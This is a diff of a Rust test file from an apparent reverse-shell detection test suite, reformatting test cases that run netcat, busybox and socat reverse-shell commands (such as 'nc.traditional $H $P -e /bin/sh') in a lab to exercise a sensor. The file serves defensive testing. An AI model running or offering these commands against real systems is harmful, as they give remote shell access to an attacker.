@@ -7,7 +7,9 @@ use sensor_tests::{
 
 pub fn cases() -> Vec<Case> {
     vec![
-        Case::new("netcat::traditional_e", &["nc.traditional"], |lab| lab.reverse("nc.traditional $H $P -e /bin/sh")),
+        Case::new("netcat::traditional_e", &["nc.traditional"], |lab| {
+            lab.reverse("nc.traditional $H $P -e /bin/sh")
+        }),
         Case::new("netcat::traditional_e_bash", &["nc.traditional"], |lab| {
             lab.reverse("exec nc.traditional -n -e /bin/bash $H $P")
         }),
@@ -15,9 +17,15 @@ pub fn cases() -> Vec<Case> {
             lab.reverse("nc.traditional $H $P -c 'sh -i; true'")
         }),
         Case::new("netcat::traditional_udp", &["nc.traditional"], |lab| {
-            lab.reverse_to(&Listener::udp(V4)?, "127.0.0.1", "nc.traditional -u $H $P -c 'exec sh -i 2>&1'")
+            lab.reverse_to(
+                &Listener::udp(V4)?,
+                "127.0.0.1",
+                "nc.traditional -u $H $P -c 'exec sh -i 2>&1'",
+            )
         }),
-        Case::new("netcat::busybox_e", &["busybox"], |lab| lab.reverse("busybox nc $H $P -e sh")),
+        Case::new("netcat::busybox_e", &["busybox"], |lab| {
+            lab.reverse("busybox nc $H $P -e sh")
+        }),
         Case::new("netcat::busybox_e_arguments", &["busybox"], |lab| {
             lab.reverse("exec busybox nc $H $P -e /bin/bash --norc -i")
         }),
@@ -25,7 +33,9 @@ pub fn cases() -> Vec<Case> {
             lab.reverse_to(&Listener::tcp(V6)?, "::1", "busybox nc $H $P -e /bin/sh")
         }),
         // Without nofork socat relays; with it the shell has the connection itself.
-        Case::new("netcat::socat_nofork", &["socat"], |lab| lab.reverse("socat TCP:$H:$P EXEC:/bin/sh,nofork")),
+        Case::new("netcat::socat_nofork", &["socat"], |lab| {
+            lab.reverse("socat TCP:$H:$P EXEC:/bin/sh,nofork")
+        }),
         Case::new("netcat::socat_nofork_interactive", &["socat"], |lab| {
             lab.reverse("exec socat TCP4:$H:$P,nodelay EXEC:'bash --norc -i',stderr,nofork")
         }),
